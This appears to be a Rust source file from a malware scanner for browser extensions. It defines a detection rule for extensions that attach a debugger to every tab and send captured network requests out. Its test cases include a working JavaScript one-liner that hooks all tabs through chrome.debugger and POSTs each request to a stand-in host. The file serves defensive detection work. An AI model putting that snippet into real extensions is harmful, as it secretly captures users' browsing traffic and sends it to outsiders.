//! `every-tab-debugged`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-tab-debugged",
    description: "The extension attaches a debugger to all tabs and sends their network requests out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ExtensionApi]), one(&[Atom::SentAbroad, Atom::PostMethod, Atom::Post])],
    within: 200,
    only_if: Some(debugs),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"chrome.tabs.query({},ts=>ts.forEach(t=>chrome.debugger.attach({tabId:t.id},'1.3',()=>{chrome.debugger.sendCommand({tabId:t.id},'Network.enable')})));chrome.debugger.onEvent.addListener((s,m,p)=>{if(m==='Network.requestWillBeSent')fetch('https://c.example/r',{method:'POST',body:JSON.stringify(p.request)})})"#,
        ],
        without: &[
            r#"chrome.tabs.query({active:true},([t])=>chrome.debugger.attach({tabId:t.id},'1.3',()=>{chrome.debugger.sendCommand({tabId:t.id},'Network.enable')}));chrome.debugger.onEvent.addListener((s,m,p)=>{fetch('https://c.example/r',{method:'POST',body:JSON.stringify(p.request)})})"#,
            r#"chrome.tabs.query({},ts=>ts.forEach(t=>chrome.debugger.attach({tabId:t.id},'1.3',()=>{chrome.debugger.sendCommand({tabId:t.id},'Emulation.setTouch')})));fetch('https://c.example/r',{method:'POST'})"#,
        ],
    },
};

fn debugs(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 160);
    let attached = near.words(&["attach"]).any(|at| near.before(at, 1) == "debugger");
    let all = || {
        near.words(&["query"])
            .any(|at| near.is(at + 1, b'(') && near.is(at + 2, b'{') && near.is(at + 3, b'}'))
            || near.words(&["onCreated", "onUpdated"]).any(|at| near.before(at, 1) == "tabs")
    };
    attached
        && all()
        && near.has_text(&["network.enable", "fetch.enable"])
        && near.words(&["onEvent"]).any(|at| near.before(at, 1) == "debugger")
}
